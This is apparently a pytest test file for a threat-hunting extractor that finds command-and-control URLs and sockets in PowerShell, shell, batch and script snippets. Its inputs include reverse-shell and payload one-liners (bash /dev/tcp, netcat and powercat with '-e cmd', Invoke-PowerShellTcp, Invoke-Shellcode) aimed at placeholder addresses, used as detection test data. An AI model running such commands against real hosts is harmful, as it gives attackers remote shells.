import pytest

from app.hunting import c2, iocs
from app.hunting.features import scan


def contacts(text: str) -> list[str]:
    return list(c2.contacts([scan(text.encode())], iocs.extract(text)))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("$w.DownloadString('http://example.com/a')", ["http://example.com/a"]),
        ("New-Object Net.Sockets.TcpClient('192.0.2.1', 4444)", ["tcp://192.0.2.1:4444"]),
        ('New-Object System.Net.Sockets.TCPClient("example.com",443)', ["tcp://example.com:443"]),
        ("[Net.Sockets.TcpClient]::new('192.0.2.1',80)", ["tcp://192.0.2.1:80"]),
        ("$s.Connect('192.0.2.1', '80')", ["tcp://192.0.2.1:80"]),
        ("$a='192.0.2.1'; $p = 8080; $c.connect($a,$p)", ["tcp://192.0.2.1:8080"]),
        ("$c.Connect($unknown, 80)", []),
        ("New-Object Net.Sockets.UdpClient('192.0.2.1', 53)", ["udp://192.0.2.1:53"]),
        ("New-Object Net.Sockets.TcpListener([Net.IPAddress]::Any, 4444)", ["bind://0.0.0.0:4444"]),
        ("Invoke-Shellcode -Payload x -Lhost 192.0.2.1 -Lport 443", ["tcp://192.0.2.1:443"]),
        ("Invoke-PowerShellTcp -Reverse -IPAddress 192.0.2.1 -Port 99", ["tcp://192.0.2.1:99"]),
        ("powercat -c 192.0.2.1 -p 443 -e cmd", ["tcp://192.0.2.1:443"]),
        ("nslookup -q=txt a.example.com", ["dns://a.example.com"]),
        ("Resolve-DnsName -Name a.example.com -Type TXT", ["dns://a.example.com"]),
        ("[Net.Dns]::GetHostAddresses('a.example.com')", ["dns://a.example.com"]),
        ('<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">', []),
        ("Test-Connection 192.0.2.1 # only named", []),
        ("# see http://example.com/doc\niwr http://example.org/a", ["http://example.org/a"]),
        ("<# .LINK\nhttp://example.com/doc #> dir", []),
        ("'Mozilla/5.0 (compatible; bot/2.1; +http://example.com/bot.html)'", []),
        ("iwr 'http://example.com/a#top' # http://example.com/a#top", ["http://example.com/a#top"]),
        ("echo ' # ';iwr http://example.com/a", ["http://example.com/a"]),
        ('"color #1 #2"; iwr http://example.com/a', ["http://example.com/a"]),
        ("$a='x'+http://example.com/a", ["http://example.com/a"]),
        ("REM see http://example.com/doc\r\ncurl http://example.org/a", ["http://example.org/a"]),
        ("echo a & rem http://example.com/doc", []),
        ("' see http://example.com/doc\r\nx.Open \"GET\", \"http://example.org/a\"", ["http://example.org/a"]),
        ("'http://example.com/a'|iex", ["http://example.com/a"]),
        ("// http://example.com/doc\nvar u='http://example.org/a';", ["http://example.org/a"]),
        ("/* http://example.com/doc */ f('http://example.org/a')", ["http://example.org/a"]),
        ("<!-- http://example.com/doc --><a href='http://example.org/a'>", ["http://example.org/a"]),
        ("cscript //nologo a.vbs http://example.com/a", ["http://example.com/a"]),
        ("$w.Headers.Add('Referer','http://example.com/')", []),
        ("curl -H 'Referer: http://example.com/' http://example.org/a", ["http://example.org/a"]),
        ("curl --referer http://example.com/ http://example.org/a", ["http://example.org/a"]),
        ("git remote add origin https://example.com/a.git", ["https://example.com/a.git"]),
        ("$u='Mozilla/5.0 (compatible; http://example.com/bot)'", []),
        ('xmlns:x="http://example.com/ns"', []),
        ('xsi:schemaLocation="http://example.com/a http://example.com/a.xsd"', []),
        ("Licensed under https://www.apache.org/licenses/LICENSE-2.0", []),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ["tcp://192.0.2.1:443"]),
        ("nc.exe -e cmd.exe 192.0.2.1 4444", ["tcp://192.0.2.1:4444"]),
        ("nc -lvp 4444 -e cmd.exe", []),
        ("s.connect((\"192.0.2.1\",4444))", ["tcp://192.0.2.1:4444"]),
        ("socat tcp://example.com:443 -", ["tcp://example.com:443"]),
        ("nslookup $x.a.example.com", ["dns://a.example.com"]),
        ("nslookup x.$x.example.com", ["dns://example.com"]),
        ("nslookup example.top 192.0.2.53", ["dns://example.top"]),
    ],
)  # fmt: skip
def test_contacts(code: str, expected: list[str]) -> None:
    assert contacts(code) == expected


def test_comment_in_one_text_hides_nothing_in_another() -> None:
    texts = "# http://example.com/a", "iwr http://example.com/a"
    found = iocs.extract(*texts)
    assert list(c2.contacts([scan(text.encode()) for text in texts], found)) == [
        "http://example.com/a"
    ]
